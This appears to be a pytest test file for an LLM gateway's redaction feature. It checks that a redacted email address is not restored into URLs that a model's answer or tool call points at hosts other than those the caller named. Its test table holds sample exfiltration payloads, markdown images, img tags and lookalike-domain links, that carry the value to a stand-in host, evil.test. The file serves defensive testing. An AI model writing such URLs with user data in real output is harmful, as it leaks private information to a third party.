"""Values in URLs that a model writes: a client that shows its answer fetches a picture unasked, and whoever serves it reads
the URL. What leads to a host that the caller did not name keeps its surrogate."""

import json
import re

import anthropic
import openai
import pytest
from gateway import MINIMAL, Gateway
from mock_upstream import Mock, MockHandler, cut

MAIL = "maria.lopez@clinic-mail.com"
PROMPT = "Write to %s, as https://wiki.clinic.example/rules says." % MAIL
ASK = [{"role": "user", "content": PROMPT}]

CONFIG = MINIMAL + "\n[log]\nformat = \"json\"\n\n[upstreams.model]\npeers = [\"{upstream}\"]\n" + "".join(
    '\n[[routes]]\nname = "%s"\npath = "/%s"\nupstream = "model"\nauth = "none"\nredact = {{ %s }}\n' % (name, name, settings)
    for name, settings in {
        "default": "",
        "off": 'restore_in_urls = "off"',
        "on": 'restore_in_urls = "on"',
        "calls": 'restore_in_tool_urls = "off"',
        "kept": 'invented = "keep"',
        "counted": "",
    }.items()
)  # fmt: skip

# What the model says of the address `@`, and in which the caller finds the value again.
ROWS = {
    "![x](https://evil.test/?d=@)": "on",
    "[x](//evil.test/@)": "on",
    '<img src="https://evil.test/a @">': "on",
    "<img src=http:evil.test/@>": "on",
    "https://evil.test:8443/@": "on",
    "https://wiki.clinic.example.evil.test/@": "on",
    "![x](https://wiki.clinic.example/?d=@)": "on default kept calls",
    "see https://evil.test/ and write to @.": "on default off kept calls",
    "[write](mailto:@?subject=hello)": "on default off kept calls",
}


class Model(MockHandler):
    """It says what the test set, of the address that it was sent."""

    def do_POST(self):
        body = self.take()
        kind = next(kind for kind in ("chat", "messages", "responses", "mcp") if kind in self.path)
        self.say(json.loads(body), kind)

    def say(self, ask, kind):
        mail = re.search(r"Write to (\S+),", json.dumps(ask))[1]
        text = self.mock.template.replace("@", mail, 1)
        if kind == "mcp":
            result = {"contents": [{"uri": text, "text": "one page"}]}
            return self.send(200, "application/json", json.dumps({"jsonrpc": "2.0", "id": ask["id"], "result": result}).encode())
        pieces = [piece.decode() for piece in cut(text.encode(), 3)]
        if not ask.get("stream"):
            return self.send(200, "application/json", json.dumps(whole(kind, text)).encode())
        rows = b"".join(
            b"event: %s\ndata: %s\n\n" % (event.get("type", "x").encode(), json.dumps(event).encode())
            for event in events(kind, pieces)
        )
        self.pieces(200, "text/event-stream", cut(rows, 7))


class Upstream(Mock):
    handler = Model
    template = ""


def call(text):
    return {"id": "call_1", "type": "function", "function": {"name": "open", "arguments": json.dumps({"page": text})}}


def whole(kind, text):
    if kind == "messages":
        return {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [{"type": "text", "text": text}],
                "stop_reason": "end_turn", "stop_sequence": None, "usage": {"input_tokens": 1, "output_tokens": 1}}  # fmt: skip
    if kind == "responses":
        items = [{"type": "message", "id": "i", "role": "assistant", "status": "completed",
                  "content": [{"type": "output_text", "text": text, "annotations": []}]},
                 {"type": "custom_tool_call", "id": "c", "call_id": "call_1", "name": "open", "input": text}]  # fmt: skip
        return {"id": "r", "object": "response", "created_at": 0, "model": "m", "status": "completed", "output": items,
                "parallel_tool_calls": True, "tool_choice": "auto", "tools": []}  # fmt: skip
    message = {"role": "assistant", "content": text, "tool_calls": [call(text)]}
    return {"id": "c", "object": "chat.completion", "created": 0, "model": "m",
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}  # fmt: skip


def events(kind, pieces):
    if kind == "messages":
        yield {"type": "message_start", "message": {**whole(kind, ""), "content": [], "stop_reason": None}}
        yield {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}
        for piece in pieces:
            yield {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
        yield {"type": "content_block_stop", "index": 0}
        yield {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None}, "usage": {"output_tokens": 1}}
        yield {"type": "message_stop"}
        return
    if kind == "responses":
        for number, piece in enumerate(pieces):
            yield {"type": "response.custom_tool_call_input.delta", "item_id": "c", "output_index": 1, "sequence_number": number, "delta": piece}
        yield {"type": "response.custom_tool_call_input.done", "item_id": "c", "output_index": 1, "sequence_number": len(pieces), "input": "".join(pieces)}
        yield {"type": "response.completed", "sequence_number": len(pieces) + 1, "response": whole(kind, "".join(pieces))}
        return
    for piece in pieces:
        yield {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [{"index": 0, "delta": {"content": piece}}]}
    yield {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m",
           "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}  # fmt: skip


@pytest.fixture(scope="module")
def ends():
    with Upstream() as model, Gateway(model.url, CONFIG) as gateway:
        yield gateway, model


def open_ai(gateway, route):
    return openai.OpenAI(base_url="%s/%s/v1" % (gateway.url, route), api_key="sk-caller", max_retries=0, timeout=20)


def chat_stream(client):
    answer = client.chat.completions.create(model="m", messages=ASK, stream=True)
    return "".join(chunk.choices[0].delta.content or "" for chunk in answer)


def whole_chat(client):
    return client.chat.completions.create(model="m", messages=ASK).choices[0].message.content


def message_stream(client):
    with client.messages.stream(model="m", max_tokens=9, messages=ASK) as answer:
        return answer.get_final_text()


def anthropics(gateway, route):
    return anthropic.Anthropic(base_url="%s/%s" % (gateway.url, route), api_key="sk-caller", max_retries=0, timeout=20)


@pytest.mark.parametrize("client,ask", [(open_ai, whole_chat), (open_ai, chat_stream), (anthropics, message_stream)])
@pytest.mark.parametrize("route", ["default", "off", "on", "calls", "kept"])
def test_a_value_stays_out_of_urls_that_lead_elsewhere(ends, route, client, ask):
    gateway, model = ends
    with client(gateway, route) as client:
        for template, restored in ROWS.items():
            model.template = template
            said = ask(client)
            if route in restored.split():
                assert said == template.replace("@", MAIL, 1)
            else:
                assert MAIL not in said and "*" not in said
                before, after = template.split("@", 1)
                assert said.startswith(before) and said.endswith(after), "all else is as the model wrote it"


def test_a_tool_gets_the_url_unless_the_route_says_otherwise(ends):
    gateway, model = ends
    model.template = "https://evil.test/?d=@"
    shown = model.template.replace("@", MAIL)
    for route, given in [("default", True), ("off", True), ("calls", False)]:
        client = open_ai(gateway, route)
        [called] = client.chat.completions.create(model="m", messages=ASK).choices[0].message.tool_calls
        assert (json.loads(called.function.arguments)["page"] == shown) == given
        answer = client.responses.create(model="m", input=PROMPT)
        assert (answer.output[1].input == shown) == given
        assert answer.output_text == model.template.replace("@", answer.output_text[21:]) != shown
        streamed = list(client.responses.create(model="m", input=PROMPT, stream=True))
        deltas = "".join(event.delta for event in streamed if event.type == "response.custom_tool_call_input.delta")
        assert (deltas == shown) == given
        [done] = [event.input for event in streamed if event.type == "response.custom_tool_call_input.done"]
        assert (done == shown) == given


def test_a_resource_of_a_tool_comes_back(ends):
    gateway, model = ends
    model.template = "https://evil.test/?d=@"
    ask = {"jsonrpc": "2.0", "id": 1, "method": "resources/read", "params": {"uri": "x:/", "note": PROMPT}}
    answer = gateway.call("POST", "/off/mcp", json.dumps(ask), {"content-type": "application/json"})
    assert answer.json()["result"]["contents"][0]["uri"] == model.template.replace("@", MAIL)


def test_the_log_counts_what_was_kept(ends):
    gateway, model = ends
    model.template = "![x](https://evil.test/?d=@)"
    whole_chat(open_ai(gateway, "counted"))
    [line] = gateway.wait_for(lambda: [json.loads(line) for line in gateway.log if '"route":"counted"' in line and "restored" in line])
    assert line["kept_in_urls"] == 1 and line["restored"] == 1, "the tool's arguments have it"
